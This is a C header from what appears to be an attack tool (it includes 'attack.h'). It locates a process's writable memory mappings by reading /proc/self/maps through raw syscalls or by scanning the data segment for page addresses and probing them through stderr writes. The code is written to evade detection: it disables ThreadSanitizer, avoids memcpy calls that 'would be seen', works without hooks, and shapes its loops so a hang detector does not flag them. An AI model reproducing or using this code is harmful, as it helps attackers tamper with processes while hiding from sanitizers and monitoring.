/*
 * maps.h - where the explorer may have what it knows
 *
 * maps_read() asks /proc, which may be forbidden. maps_guess() takes every word
 * of the program's data that could be the address of a page for one, and asks
 * of each page by printing its first byte, which has to be allowed, whether it
 * is there.
 */
#ifndef MAPS_H
#define MAPS_H

#include "attack.h"

#include <fcntl.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>

#define MAPS_MAX 256
#define MAPS_PAGE 4096u
#define MAPS_STEP (256 * MAPS_PAGE)
#define MAPS_ADDRESS_BITS 47
#define MAPS_BYTES_MAX (16u << 20) /* of one mapping that is guessed */

struct mapping {
	char *begin;
	char *end;
};

extern char __data_start[], _end[];

/* The words of one line: "BEGIN-END rw-p ...". */
static inline bool maps_parse(const char *line, struct mapping *mapping)
{
	char *rest;

	mapping->begin = (char *)strtoul(line, &rest, 16);
	mapping->end = (char *)strtoul(rest + 1, &rest, 16);
	return !strncmp(rest, " rw", 3) && !strstr(rest, "[v");
}

static inline int maps_read(struct mapping list[MAPS_MAX])
{
	static char text[1 << 16];
	long fd = attack_call(SYS_open, (long)"/proc/self/maps", O_RDONLY, 0,
			      0);
	size_t length = 0;
	int count = 0;
	long got;

	while (fd >= 0 && length < sizeof(text) - 1 &&
	       (got = attack_call(SYS_read, fd, (long)(text + length),
				  (long)(sizeof(text) - 1 - length), 0)) > 0)
		length += (size_t)got;
	text[length] = '\0';
	for (char *line = text, *end;
	     count < MAPS_MAX && (end = strchr(line, '\n')) != NULL;
	     line = end + 1) {
		*end = '\0';
		if (maps_parse(line, &list[count]))
			count++;
	}
	return count;
}

static inline bool maps_has(uintptr_t page)
{
	return attack_call(SYS_write, STDERR_FILENO, (long)page, 1, 0) == 1;
}

static inline __attribute__((no_sanitize("thread"))) bool
maps_is_listed(const struct mapping *list, int count, uintptr_t page)
{
	for (int i = 0; i < count; i++)
		if (page >= (uintptr_t)list[i].begin &&
		    page < (uintptr_t)list[i].end)
			return true;
	return false;
}

/* Where the mapping ends that has @page. Not page by page, as a loop that takes
 * long is taken for one without end. */
static inline __attribute__((no_sanitize("thread"))) uintptr_t
maps_end(uintptr_t page)
{
	uintptr_t end = page;

	for (uintptr_t step = MAPS_STEP; step >= MAPS_PAGE; step /= 16)
		while (end - page < MAPS_BYTES_MAX && maps_has(end) &&
		       maps_has(end + step - MAPS_PAGE))
			end += step;
	return end;
}

/* Without hooks: it reads every word of the program's data. */
static inline __attribute__((no_sanitize("thread"))) int
maps_guess(struct mapping list[MAPS_MAX])
{
	int count = 0;

	for (char *at = __data_start; at + sizeof(uintptr_t) <= _end;
	     at += sizeof(uintptr_t)) {
		/* A call of memcpy() would be seen. */
		uintptr_t page = *(const volatile uintptr_t *)at, end;

		if (page % MAPS_PAGE || page < MAPS_PAGE ||
		    page >> MAPS_ADDRESS_BITS || count == MAPS_MAX ||
		    maps_is_listed(list, count, page))
			continue;
		end = maps_end(page);
		if (end > page)
			list[count++] = (struct mapping){ (char *)page,
							  (char *)end };
	}
	return count;
}

#endif
